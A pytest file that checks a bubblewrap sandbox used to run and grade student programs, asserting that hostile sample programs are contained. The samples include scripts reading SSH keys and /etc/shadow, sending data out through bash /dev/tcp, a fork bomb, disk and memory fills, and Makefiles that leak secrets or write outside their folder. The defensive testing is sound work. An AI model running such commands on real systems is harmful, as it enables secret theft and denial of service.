"""programs/sandbox.py: a program fa runs for someone else sees only the system, its input and its
output's folder, has no network, and is killed past its limits; hostile programs, each bounded
by itself (a fork bomb of 3000 processes, a fill of 50 MB), so that a sandbox that fails cannot
take the machine down."""
import os
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from helpers import DATA, fa, path_without_bwrap

from fa_cli.programs import gtx1080, programs, sandbox


def bwrap_works() -> bool:
    if sandbox.missing_line():
        return False
    return subprocess.run(sandbox.Sandbox(gpu=False).confine(["true"]), capture_output=True).returncode == 0


pytestmark = pytest.mark.skipif(not bwrap_works(), reason="needs bubblewrap (bwrap) able to make namespaces")


def script(folder: Path, name: str, body: str) -> Path:
    path = folder / name
    path.write_text("#!/bin/sh\n" + body)
    path.chmod(0o755)
    return path


def confined_run(program: Path, folder: Path, limits=sandbox.Limits(), timeout: float = 60):
    """The program run as fa runs a case, confined: its input a file of the test's, its output in
    a folder of its own."""
    out = folder / "out"
    out.mkdir(exist_ok=True)
    inp = folder / "input.bin"
    inp.write_bytes(b"input")
    return programs.run(programs.Program(program.name, program), inp, out / "o.bin", sandbox.Sandbox(limits, gpu=False),
                        timeout=timeout), out / "o.bin"


def test_it_sees_its_input_and_output_folder_and_nothing_of_home_others_or_the_cache(tmp_path):
    secrets = [tmp_path / "home" / ".ssh" / "id", tmp_path / "other-student" / "hw4.cu", tmp_path / "cache" / "c01.out"]
    for secret in secrets:
        secret.parent.mkdir(parents=True)
        secret.write_text("TOPSECRET")
    reads = " ".join(f'cat "{s}" >&2 && n=$((n+1));' for s in secrets)
    (tmp_path / "run").mkdir()
    program = script(tmp_path / "run", "peek.sh", f'n=0; {reads} cat "$1" > "$2"; exit $n\n')
    result, out = confined_run(program, tmp_path / "run")
    assert result.returncode == 0, result.stderr  # not one of the three read
    assert "TOPSECRET" not in result.stderr and "No such file" in result.stderr
    assert out.read_bytes() == b"input"  # its input read, its output written
    unconfined = subprocess.run([str(program), str(tmp_path / "run" / "input.bin"), str(out)], capture_output=True)
    assert unconfined.returncode == 3  # (the same script outside reads all three)


def test_a_connection_to_a_listener_outside_is_refused_and_never_arrives(tmp_path):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(5)
    port = listener.getsockname()[1]
    arrived = []
    def accept() -> None:
        try:
            arrived.append(listener.accept())
        except OSError:  # the time out (nothing came), or closed
            pass
    threading.Thread(target=accept, daemon=True).start()
    (tmp_path / "run").mkdir()
    program = script(tmp_path / "run", "call.sh",
                     f'bash -c "echo stolen > /dev/tcp/127.0.0.1/{port}" && exit 9\nexit 4\n')
    result, _ = confined_run(program, tmp_path / "run")
    assert result.returncode == 4, result.stderr
    threading.Event().wait(0.5)
    assert not arrived
    unconfined = subprocess.run([str(program), "in", "out"], capture_output=True)
    assert unconfined.returncode == 9  # (outside, the same script reaches it)
    listener.close()


def test_a_fork_bomb_is_killed_with_its_namespace_and_said(tmp_path):
    (tmp_path / "run").mkdir()
    marker = f"30.{os.getpid()}"  # each one's sleep, found by it afterwards
    program = script(tmp_path / "run", "bomb.sh",
                     f'i=0; while [ $i -lt 3000 ]; do sleep {marker} & i=$((i+1)); done; wait\n')
    result, _ = confined_run(program, tmp_path / "run", sandbox.Limits(processes=50))
    assert result.returncode == -9 and "more than the sandbox's 50 processes" in result.stderr, result.stderr
    left = [p for p in os.listdir("/proc") if p.isdigit() and marker in _cmdline(p)]
    assert not left  # the whole namespace went with it


def _cmdline(pid: str) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace")
    except OSError:
        return ""


def test_one_file_past_the_size_limit_is_stopped_by_the_kernel(tmp_path):
    (tmp_path / "run").mkdir()
    program = script(tmp_path / "run", "fill.sh", 'head -c 50000000 /dev/zero > "$2"\n')
    result, out = confined_run(program, tmp_path / "run", sandbox.Limits(file_bytes=1 << 20))
    assert "SIGXFSZ" in result.stderr, (result.returncode, result.stderr)
    assert out.stat().st_size <= 1 << 20


def test_many_files_past_what_it_may_write_are_killed(tmp_path):
    (tmp_path / "run").mkdir()
    program = script(tmp_path / "run", "many.sh",
                     'd=$(dirname "$2"); i=0; while [ $i -lt 100 ]; do head -c 500000 /dev/urandom > "$d/f$i"; '
                     'i=$((i+1)); done\n')
    result, out = confined_run(program, tmp_path / "run", sandbox.Limits(file_bytes=1 << 20, written_bytes=4 << 20))
    assert result.returncode == -9 and "wrote more than the sandbox's" in result.stderr, result.stderr
    assert sum(f.stat().st_size for f in out.parent.iterdir()) < 20 << 20


def test_what_its_folder_held_before_it_started_is_not_counted_as_written(tmp_path):
    """A probe's own input, larger than a run may write, in the folder the output goes to: the run
    that writes a small output is let be (it was killed as if it had written the input)."""
    (tmp_path / "run" / "out").mkdir(parents=True)
    (tmp_path / "run" / "out" / "probe.in").write_bytes(bytes(8 << 20))
    program = script(tmp_path / "run", "small.sh", 'cat "$1" > "$2"; sleep 0.2\n')
    result, out = confined_run(program, tmp_path / "run", sandbox.Limits(file_bytes=1 << 20, written_bytes=4 << 20))
    assert result.returncode == 0 and out.read_bytes() == b"input", result.stderr


@pytest.mark.skipif(shutil.which("python3") is None, reason="needs python3 on PATH")
def test_memory_past_the_limit_is_refused(tmp_path):
    (tmp_path / "run").mkdir()
    program = script(tmp_path / "run", "hog.sh", "exec python3 -c 'b = bytearray(1 << 30)'\n")
    result, _ = confined_run(program, tmp_path / "run", sandbox.Limits(memory_bytes=256 << 20))
    assert result.returncode == 1 and "MemoryError" in result.stderr, result.stderr


def test_fa_run_sandbox_builds_and_judges_a_students_program(tmp_path, cpu_program):
    folder = tmp_path / "student"
    folder.mkdir()
    shutil.copy(DATA / "student_hw4.cpp", folder / "hw4.cpp")
    env = {**os.environ, "FA_CACHE": str(tmp_path / "cache")}
    proc = fa("run", "t01", "t02", "--program", folder / "hw4.cpp", "--sandbox", env=env, cwd=tmp_path)
    assert proc.returncode == 0 and proc.stdout.count("PASS") >= 2, proc.stdout + proc.stderr


def test_a_makefile_that_writes_outside_its_folder_is_contained(tmp_path):
    folder = tmp_path / "student"
    folder.mkdir()
    shutil.copy(DATA / "student_hw4.cpp", folder / "hw4.cpp")
    parsed, built = tmp_path / "written-while-read", tmp_path / "written-while-built"
    (folder / "Makefile").write_text(f"X := $(shell touch {parsed})\nhw4: hw4.cpp\n\ttouch {built}\n"
                                     "\tg++ -O2 -o hw4 hw4.cpp\n")
    env = {**os.environ, "FA_CACHE": str(tmp_path / "cache")}
    proc = fa("run", "t01", "--program", folder / "hw4.cpp", "--sandbox", env=env, cwd=tmp_path)
    assert proc.returncode != 0 and "does not build" in proc.stderr and "touch" in proc.stderr, proc.stderr
    assert not parsed.exists() and not built.exists()


def test_without_bubblewrap_the_sandbox_is_one_line_that_says_how_to_get_it(tmp_path):
    env = {**os.environ, "PATH": path_without_bwrap(tmp_path / "bin"), "FA_CACHE": str(tmp_path / "cache")}
    proc = subprocess.run([sys.executable, "-m", "fa_cli", "run", "t01", "--program", "cpu", "--sandbox"],
                          capture_output=True, text=True, env=env, cwd=Path(programs.__file__).parents[2])
    assert proc.returncode != 0 and "Traceback" not in proc.stderr
    assert "apt-get install bubblewrap" in proc.stderr and len(proc.stderr.strip().splitlines()) == 1, proc.stderr


def test_many_files_past_what_it_may_make_are_killed_whatever_they_hold(tmp_path):
    """A count that stopped at its first 10000 entries missed 180 MB written after 10050 empty files."""
    (tmp_path / "run").mkdir()
    program = script(tmp_path / "run", "hide.sh",
                     'd=$(dirname "$2"); mkdir "$d/m"; cd "$d/m" && seq 1 10050 | xargs touch; '
                     'head -c 30000000 /dev/zero > "$d/big"; sleep 5\n')
    result, _ = confined_run(program, tmp_path / "run")
    assert result.returncode == -9 and "more than the sandbox's 10000 files" in result.stderr, result.stderr


def test_what_a_run_reads_of_the_system_is_not_its_secrets_nor_a_cpu_programs_sys(tmp_path, cpu_program):
    """/etc/shadow and its like are empty inside; a CPU program's run is not shown /sys (a GPU one's is)."""
    folder = tmp_path / "student"
    folder.mkdir()
    (folder / "hw4.cpp").write_text(
        "#include <cstdio>\n#include <sys/stat.h>\nint main() { FILE *f = fopen(\"/etc/shadow\", \"r\"); int n = 0;"
        " if (f) { while (fgetc(f) != EOF) n++; fclose(f); } struct stat s; int sys = stat(\"/sys/class\", &s) == 0;"
        " fprintf(stderr, \"shadow %d bytes, sys %d\\n\", n, sys); return 3; }\n")
    proc = fa("run", "t01", "--program", folder / "hw4.cpp", "--sandbox", "--why-budget", "0",
              env={**os.environ, "FA_CACHE": str(tmp_path / "cache")}, cwd=tmp_path)
    assert "shadow 0 bytes, sys 0" in proc.stdout, proc.stdout + proc.stderr


def test_a_link_in_the_students_folder_does_not_read_for_the_build_what_the_sandbox_hides(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET_TOKEN")
    folder = tmp_path / "student"
    folder.mkdir()
    shutil.copy(DATA / "student_hw4.cpp", folder / "hw4.cpp")
    (folder / "leak.txt").symlink_to(secret)
    (folder / "Makefile").write_text("hw4: hw4.cpp\n\tg++ -O2 -include leak.txt -o hw4 hw4.cpp\n")
    proc = fa("run", "t01", "--program", folder / "hw4.cpp", "--sandbox",
              env={**os.environ, "FA_CACHE": str(tmp_path / "cache")}, cwd=tmp_path)
    assert proc.returncode != 0 and "does not build" in proc.stderr, proc.stderr
    assert "TOPSECRET" not in proc.stdout + proc.stderr


def test_a_build_that_forks_without_end_is_killed_and_said(tmp_path):
    folder = tmp_path / "student"
    folder.mkdir()
    shutil.copy(DATA / "student_hw4.cpp", folder / "hw4.cpp")
    (folder / "Makefile").write_text("hw4: hw4.cpp\n\ti=0; while [ $$i -lt 3000 ]; do sleep 30 & i=$$((i+1)); done; "
                                     "wait\n\tg++ -O2 -o hw4 hw4.cpp\n")
    proc = fa("run", "t01", "--program", folder / "hw4.cpp", "--sandbox",
              env={**os.environ, "FA_CACHE": str(tmp_path / "cache")}, cwd=tmp_path)
    assert proc.returncode != 0 and "does not build" in proc.stderr, proc.stderr
    # exactly the build's `sleep 30`: another `sleep 300` on the machine is none of its processes
    assert not [p for p in os.listdir("/proc") if p.isdigit() and _cmdline(p).split("\x00")[:2] == ["sleep", "30"]]


def test_a_confined_build_that_includes_fas_layer_header_reads_the_headers_it_includes(tmp_path):
    """fa's GTX 1080 header (its -include on a student's nvcc line) includes ../launch_hook.h, which
    the build's line never names: the confined build sees fa's layer folders whole; and /dev/null,
    named on the line, stays the sandbox's own, writable."""
    header = gtx1080.header()
    line = ["sh", "-c", 'cat "$0" "$(dirname "$0")/../launch_hook.h" "$(dirname "$0")/../launch_log.h" > /dev/null',
            str(header)]
    sandbox.use(sandbox.Sandbox(gpu=False))
    try:
        argv, _ = sandbox.build_run(line, tmp_path, {})
    finally:
        sandbox.use(None)
    proc = subprocess.run(argv, capture_output=True, text=True, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    hidden = subprocess.run(sandbox.Sandbox(gpu=False).confine(line, readable=[header]), capture_output=True, text=True)
    assert hidden.returncode != 0 and "launch_hook.h" in hidden.stderr  # (the header alone, as before, fails)


def test_a_zombie_is_not_waited_for_as_living_and_a_running_process_is():
    """bwrap leaves its namespace's first process to the machine's init to reap: a run waits for
    what still runs in its namespace, never for a zombie that init may reap late or never."""
    sleeper = subprocess.Popen(["sleep", "30"])
    ended = subprocess.Popen(["true"])
    try:
        while Path(f"/proc/{ended.pid}/stat").read_text().split(") ")[1][:1] != "Z":
            pass  # `true` ends at once; unreaped, it stays a zombie
        assert not sandbox._living(ended.pid)
        assert sandbox._living(sleeper.pid)
    finally:
        sleeper.kill()
        sleeper.wait()
        ended.wait()
    assert not sandbox._living(ended.pid)  # reaped: gone
